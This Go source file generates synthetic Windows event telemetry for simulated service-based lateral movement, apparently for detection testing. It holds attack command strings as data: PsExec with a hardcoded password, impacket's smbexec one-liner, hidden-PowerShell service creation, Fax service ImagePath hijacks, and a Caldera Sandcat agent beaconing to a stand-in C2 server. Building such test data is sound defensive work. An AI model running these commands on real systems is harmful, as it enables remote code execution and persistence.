package synth

import (
	"github.com/svcharness/svcharness/telemetry"
)

// attackFunc queues one attack chain into a slot.
type attackFunc func(g *Generator, s *slot)

var attackByName = map[string]attackFunc{
	ScenarioPsExec:          (*Generator).psexec,
	ScenarioSmbExec:         (*Generator).smbexec,
	ScenarioScComspec:       (*Generator).scComspec,
	ScenarioRegistryOnly:    (*Generator).registryOnly,
	ScenarioImagePathHijack: (*Generator).imagePathHijack,
	ScenarioScRemote:        (*Generator).scRemote,
}

// gap returns a number of events of about every, with jitter so that
// episodes do not fall on exact multiples.
func gap(g *Generator, every int) uint64 {
	return uint64(every/2 + 1 + g.rng.IntN(every))
}

// startEpisode fills an empty slot with the next episode: an attack chain when
// one is due, else background.
func (g *Generator) startEpisode(s *slot) {
	if g.cfg.AttackEvery > 0 && g.n >= g.nextAttack {
		g.nextAttack = g.n + gap(g, g.cfg.AttackEvery)
		pick(g.rng, g.attacks)(g, s)
		return
	}
	g.background(s)
}

var (
	binPsExec = vendorBin(`C:\Tools\PsExec.exe`, "2.43", "Execute processes remotely",
		"Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexec.c",
		"A7D3B8F9C1E2D4A6B8C0E2F4A6B8D0C2E4F6A8B0")
	binPsExecSvc = vendorBin(`C:\Windows\PSEXESVC.exe`, "2.43", "PsExec Service",
		"Sysinternals PsExec", "Sysinternals - www.sysinternals.com", "psexesvc.exe",
		"B8E4C9A0D2F3E5B7C9D1F3A5B7C9E1D3F5A7B9C1")
	binPublicDrop = vendorBin(`C:\Users\Public\updater.exe`, "", "", "", "", "",
		"C9F5DAB1E3A4F6C8DAE2A4B6C8DAF2E4A6B8CAD2")
)

// otherHost returns a host of the fleet other than h.
func (g *Generator) otherHost(h *host) *host {
	for {
		if o := g.randomHost(); o != h {
			return o
		}
	}
}

// randomName returns n random letters, upper case or lower case, as
// Metasploit, Empire and impacket name their services.
func (g *Generator) randomName(n int, upper bool) string {
	base := byte('a')
	if upper {
		base = 'A'
	}
	b := g.arena.builder(n)
	for range n {
		b = append(b, base+byte(g.rng.IntN(26)))
	}
	return g.arena.done(b)
}

// psexec is Sysinternals PsExec run from another host of the fleet (an1185
// notes M2): the source's PsExec.exe connects to 445; the target records the
// network logon, the ADMIN$ copy, the svcctl bind, the service install (7045,
// 4697 with no client process, Sysmon 13 by services.exe), PSEXESVC started by
// services.exe, its pipes, and the command it runs. One chain in five uses
// -r to rename the service and pipes (MANIFEST pitfall 7).
func (g *Generator) psexec(s *slot) {
	target := g.target()
	g.psexecChain(s, g.attackSource(target), target, ScenarioPsExec, true)
}

// psexecChain queues a PsExec run from src to target under a label.
func (g *Generator) psexecChain(s *slot, src, target *host, scenario string, malicious bool) {
	name, exe := "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`
	renamed := malicious && g.rng.IntN(5) == 0
	if renamed {
		name = g.randomName(8, false)
		exe = g.arena.concat(`%SystemRoot%\`, name, ".exe")
	}
	ep := g.begin(s, target, scenario, malicious, name)
	admin := target.newAccount(g, "admmig")

	cmd := g.arena.concat(`PsExec.exe \\`, target.short, ` -accepteula -s cmd /c whoami`)
	if renamed {
		cmd = g.arena.concat(`PsExec.exe \\`, target.short, ` -accepteula -r `, name,
			` -u `, g.domainNetBIOS, `\admmig -p Summer2026! -s cmd /c whoami`)
	}
	srcPort := 49152 + uint64(g.rng.IntN(16000))
	tool := ep.on(src).processCreate(src.explorer, binPsExec, cmd, &src.user)
	ep.on(src).networkConnect(tool, &src.user, true, src.ip, srcPort, target.ip, 445, "")
	g.psexecTarget(ep, admin, src, srcPort, name, exe, tool.pidN)
}

// attackSource returns the host a remote attack comes from: any host but
// the target and the administration hosts.
func (g *Generator) attackSource(target *host) *host {
	if len(g.hosts) < 3 {
		return g.otherHost(target) // a two-host fleet has no other source
	}
	for {
		if h := g.randomHost(); h != target && h != g.jump && h != g.mgmt {
			return h
		}
	}
}

// psexecTarget queues the target side of a PsExec chain.
func (g *Generator) psexecTarget(ep episode, admin account, src *host, srcPort uint64,
	name, exe string, toolPID uint64) {
	h := ep.h
	file := name + ".exe"
	ep.logon(&admin, client{logonType: "3", ip: src.ip, port: srcPort})
	ep.shareAccess(&admin, src.ip, srcPort, `\\*\ADMIN$`, `\??\C:\Windows`, file, "0x120196",
		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4417\r\n\t\t\t\t")
	ep.fileCreate(h.system, g.arena.concat(`C:\Windows\`, file))
	ep.shareAccess(&admin, src.ip, srcPort, `\\*\IPC$`, "", "svcctl", "0x12019f",
		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
	g.scmInstall(ep, &admin, install{name: name, imagePath: exe, start: telemetry.StartDemand})

	bin := binPsExecSvc
	if name != "PSEXESVC" {
		b := *binPsExecSvc
		b.image = g.arena.concat(`C:\Windows\`, file)
		bin = &b
	}
	svc := ep.processCreate(h.services, bin, bin.image, &h.machine)
	ep.serviceState(name, "running")
	ep.pipe(svc, false, g.arena.concat(`\`, name))
	ep.pipe(h.system, true, g.arena.concat(`\`, name)) // the SMB client's connection
	pid := g.arena.decimal(toolPID)
	for _, stream := range []string{"stdin", "stdout", "stderr"} {
		pipe := g.arena.concat(name, "-", src.short, "-", pid, "-", stream)
		ep.shareAccess(&admin, src.ip, srcPort, `\\*\IPC$`, "", pipe, "0x12019f",
			"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t")
		ep.pipe(svc, false, g.arena.concat(`\`, pipe))
	}
	shell := ep.processCreate(svc, binCmd, `cmd /c whoami`, &h.machine)
	ep.processCreate(shell, binWhoami, `whoami`, &h.machine)
	ep.serviceState(name, "stopped")
}

// install is a service that a client asks the Service Control Manager to
// create.
type install struct {
	name      string // key name (4697, the registry)
	display   string // display name, when set: 7045 writes it as ServiceName
	imagePath string
	start     uint32
	client    uint64 // creating process ID (0 for a remote client)
	parent    uint64 // its parent's ID
}

// scmInstall queues what the Service Control Manager records when a client
// creates a service: the key and ImagePath written by services.exe (Sysmon
// 12 and 13, with Sysmon's doubled percent signs), 7045 and 4697.
func (g *Generator) scmInstall(ep episode, who *account, in install) {
	h := ep.h
	key := g.arena.concat(`HKLM\System\CurrentControlSet\Services\`, in.name)
	ep.registry(h.services, telemetry.RegCreateKey, key, "")
	ep.registry(h.services, telemetry.RegSetValue, g.arena.concat(key, `\ImagePath`),
		doublePercents(g, in.imagePath))
	ep.registry(h.services, telemetry.RegSetValue, g.arena.concat(key, `\Start`),
		g.arena.concat("DWORD (", g.arena.hex(uint64(in.start), 8), ")"))
	ep.serviceInstalled(who.sid, cmpOr(in.display, in.name), in.imagePath,
		telemetry.ServiceOwnProcess, in.start, "LocalSystem")
	ep.serviceInstalledAudit(who, in.name, in.imagePath, telemetry.ServiceOwnProcess, in.start,
		"LocalSystem", in.client, in.parent)
}

// doublePercents renders s as Sysmon writes registry Details: "%" as "%%".
func doublePercents(g *Generator, s string) string {
	b := g.arena.builder(2 * len(s))
	for i := 0; i < len(s); i++ {
		b = append(b, s[i])
		if s[i] == '%' {
			b = append(b, '%')
		}
	}
	return g.arena.done(b)
}

const smbexecCommand = `%COMSPEC% /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > ` +
	`%TEMP%\execute.bat & %COMSPEC% /Q /c %TEMP%\execute.bat & del %TEMP%\execute.bat`

// smbexec is impacket's smbexec.py from outside the fleet (EVTX-to-MITRE
// "SMBexec service registration"): an NTLM network logon, an svcctl bind, a
// service with a random name whose ImagePath is a %COMSPEC% echo … execute.bat
// one-liner, and services.exe starting cmd.exe, which runs the batch file.
func (g *Generator) smbexec(s *slot) {
	h := g.target()
	name := g.randomName(6+g.rng.IntN(3), true)
	ep := g.begin(s, h, ScenarioSmbExec, true, name)
	admin := h.newAccount(g, "admmig")
	ip := g.arena.concat("10.66.", g.arena.decimal(uint64(g.rng.IntN(250))), ".",
		g.arena.decimal(uint64(2+g.rng.IntN(250))))
	port := 49152 + uint64(g.rng.IntN(16000))

	ep.logon(&admin, client{logonType: "3", ip: ip, port: port, ntlm: true}) // impacket
	ep.shareAccess(&admin, ip, port, `\\*\IPC$`, "", "svcctl", "0x12019f",
		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
	ep.pipe(h.system, true, `\svcctl`)
	g.scmInstall(ep, &admin, install{name: name, imagePath: smbexecCommand,
		start: telemetry.StartDemand})
	shell := ep.processCreate(h.services, binCmd,
		`C:\Windows\system32\cmd.exe /Q /c echo cd  ^> \\127.0.0.1\C$\__output 2^>^&1 > `+
			`C:\Windows\TEMP\execute.bat & C:\Windows\system32\cmd.exe /Q /c `+
			`C:\Windows\TEMP\execute.bat & del C:\Windows\TEMP\execute.bat`, &h.machine)
	ep.fileCreate(shell, `C:\Windows\Temp\execute.bat`)
	ep.processCreate(shell, binCmd, `C:\Windows\system32\cmd.exe /Q /c C:\Windows\TEMP\execute.bat`,
		&h.machine)
	ep.fileCreate(shell, `C:\__output`)
}

// scComspec is Atomic Red Team T1569.002 #1 (an1185 notes M1): an elevated
// user runs sc.exe create with a %COMSPEC% … powershell binPath, then sc.exe
// start; services.exe starts cmd.exe, which starts PowerShell, which writes
// the marker file. 4697 names sc.exe as the client process.
func (g *Generator) scComspec(s *slot) {
	h := g.target()
	name := g.arena.concat("ARTService", g.randomName(4, true))
	ep := g.begin(s, h, ScenarioScComspec, true, name)
	const payload = `powershell.exe -nop -w hidden -command ` +
		`New-Item -ItemType File C:\art-marker.txt`
	binPath := g.arena.concat(`%COMSPEC% /c `, payload)

	shell := ep.processCreate(h.explorer, binCmd, `"C:\Windows\system32\cmd.exe"`, &h.user)
	sc := ep.processCreate(shell, binSc,
		g.arena.concat(`sc.exe  create `, name, ` binPath= "`, binPath, `"`), &h.user)
	g.scmInstall(ep, &h.user, install{name: name, imagePath: binPath,
		start: telemetry.StartDemand, client: sc.pidN, parent: shell.pidN})
	ep.processCreate(shell, binSc, g.arena.concat(`sc.exe  start `, name), &h.user)
	child := ep.processCreate(h.services, binCmd,
		g.arena.concat(`C:\Windows\system32\cmd.exe /c `, payload), &h.machine)
	ps := ep.processCreate(child, binPowerShell, payload, &h.machine)
	ep.fileCreate(ps, `C:\art-marker.txt`)
}

// registryOnly is AtomicTestHarnesses New-ATHService -Variant Registry (an1185
// notes M12): PowerShell creates the service key and its values directly; the
// SCM logs nothing until the next boot.
func (g *Generator) registryOnly(s *slot) {
	h := g.target()
	name := g.randomName(10, false)
	ep := g.begin(s, h, ScenarioRegistryOnly, true, name)
	key := g.arena.concat(`HKLM\System\CurrentControlSet\Services\`, name)
	ps := ep.processCreate(h.explorer, binPowerShell,
		g.arena.concat(`"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -nop -c `,
			`"New-Item HKLM:\SYSTEM\CurrentControlSet\Services\`, name,
			`; New-ItemProperty -Path HKLM:\SYSTEM\CurrentControlSet\Services\`, name,
			` -Name ImagePath -Value C:\Users\Public\updater.exe"`), &h.user)
	ep.registry(ps, telemetry.RegCreateKey, key, "")
	for _, v := range [...]struct{ name, details string }{
		{"ImagePath", binPublicDrop.image},
		{"Type", "DWORD (0x00000010)"},
		{"Start", "DWORD (0x00000002)"},
		{"ErrorControl", "DWORD (0x00000001)"},
		{"ObjectName", "LocalSystem"},
		{"DisplayName", name},
	} {
		ep.registry(ps, telemetry.RegSetValue, g.arena.concat(key, `\`, v.name), v.details)
	}
}

// imagePathHijack rewrites an existing service's ImagePath (an1185 notes
// M10/M11) and starts it: with sc.exe config (the write is services.exe's) or
// with reg.exe add (the write is reg.exe's). Neither logs 7045 or 4697.
func (g *Generator) imagePathHijack(s *slot) {
	h := g.target()
	ep := g.begin(s, h, ScenarioImagePathHijack, true, "Fax")
	key := `HKLM\System\CurrentControlSet\Services\Fax\ImagePath`
	shell := ep.processCreate(h.explorer, binCmd, `"C:\Windows\system32\cmd.exe"`, &h.user)
	if g.rng.IntN(2) == 0 {
		const path = `C:\windows\system32\WindowsPowerShell\v1.0\powershell.exe -noexit -c ` +
			`"write-host 'T1543.003 Test'"`
		ep.processCreate(shell, binSc,
			`sc  config Fax binPath= "C:\windows\system32\WindowsPowerShell\v1.0\powershell.exe `+
				`-noexit -c \"write-host 'T1543.003 Test'\""`, &h.user)
		ep.registry(h.services, telemetry.RegSetValue, key, path)
		g.hijackStart(ep, shell, binPowerShell, path)
		return
	}
	reg := ep.processCreate(shell, binReg,
		`reg.exe  add "HKLM\SYSTEM\CurrentControlSet\Services\Fax" /f /v ImagePath `+
			`/d "%windir%\system32\cmd.exe /c C:\Users\Public\updater.exe"`, &h.user)
	ep.registry(reg, telemetry.RegSetValue, key,
		`%%windir%%\system32\cmd.exe /c C:\Users\Public\updater.exe`)
	g.hijackStart(ep, shell, binCmd, `C:\Windows\system32\cmd.exe /c C:\Users\Public\updater.exe`)
}

// hijackStart queues sc.exe start Fax and services.exe starting the new
// image.
func (g *Generator) hijackStart(ep episode, shell proc, bin *binary, cmd string) {
	h := ep.h
	ep.processCreate(shell, binSc, `sc  start Fax`, &h.user)
	ep.processCreate(h.services, bin, cmd, &h.machine)
	ep.serviceState("Fax", "running")
}

var binSandcat = vendorBin(`C:\Users\Public\s4ndc4t.exe`, "", "", "", "", "",
	"D0A6EBC2F4B5A7D9EBF3B5C7D9EBA3F5B7C9DBE3")

// scRemote is Caldera's remote service execution (an1185 notes M9): sc.exe
// on another host creates "sandsvc" on the target with a display name (so
// 7045's ServiceName differs from 4697's, MANIFEST pitfall 1) and a binpath
// of "cmd /c start" the agent, then starts it; services.exe starts cmd.exe,
// which starts the agent, which beacons to its server (the AN1185 leg of a
// network connection from a process tied to a transient service).
func (g *Generator) scRemote(s *slot) {
	target := g.target()
	src := g.attackSource(target)
	ep := g.begin(s, target, ScenarioScRemote, true, "sandsvc")
	su := ep.on(src)
	c2 := g.arena.concat("10.66.", g.arena.decimal(uint64(g.rng.IntN(250))), ".7")
	server := g.arena.concat("http://", c2, ":8888")
	agentCmd := g.arena.concat(`C:\Users\Public\s4ndc4t.exe -server `, server, ` -group red`)
	binPath := g.arena.concat(`cmd /c start `, agentCmd)
	port := 49152 + uint64(g.rng.IntN(16000))

	shell := su.processCreate(src.explorer, binCmd, `"C:\Windows\system32\cmd.exe"`, &src.user)
	sc := su.processCreate(shell, binSc, g.arena.concat(`sc.exe \\`, target.short,
		` create sandsvc start= demand error= ignore binpath= "`, binPath,
		`" displayname= "Sandcat Execution"`), &src.user)
	su.networkConnect(sc, &src.user, true, src.ip, port, target.ip, 445, "")
	admin := target.newAccount(g, src.user.name)
	ep.logon(&admin, client{logonType: "3", ip: src.ip, port: port})
	ep.shareAccess(&admin, src.ip, port, `\\*\IPC$`, "", "svcctl", "0x12019f",
		"%%1538\r\n\t\t\t\t%%1541\r\n\t\t\t\t%%4416\r\n\t\t\t\t")
	ep.pipe(target.system, true, `\svcctl`)
	g.scmInstall(ep, &admin, install{name: "sandsvc", display: "Sandcat Execution",
		imagePath: binPath, start: telemetry.StartDemand})
	su.processCreate(shell, binSc, g.arena.concat(`sc.exe \\`, target.short, ` start sandsvc`),
		&src.user)
	child := ep.processCreate(target.services, binCmd, binPath, &target.machine)
	agent := ep.processCreate(child, binSandcat, agentCmd, &target.machine)
	ep.networkConnect(agent, &target.machine, true, target.ip,
		49152+uint64(g.rng.IntN(16000)), c2, 8888, "")
}
